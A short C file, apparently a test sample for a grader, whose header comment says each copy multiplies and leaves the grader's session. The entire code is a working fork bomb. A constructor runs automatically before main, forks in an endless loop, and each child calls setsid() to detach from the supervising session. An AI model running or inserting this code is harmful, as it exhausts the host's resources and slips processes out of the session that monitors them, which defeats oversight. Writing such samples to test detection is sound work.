/*
 * Multiplies, and each copy leaves the grader's session.
 *
 * File: thread.c
 * Gate: runs before main by itself
 * Says: tried to start another process
 */
#include <unistd.h>

__attribute__((constructor))
static void
hostile(void)
{
    for (;;) {
        if (fork() == 0)
            setsid();
    }
}
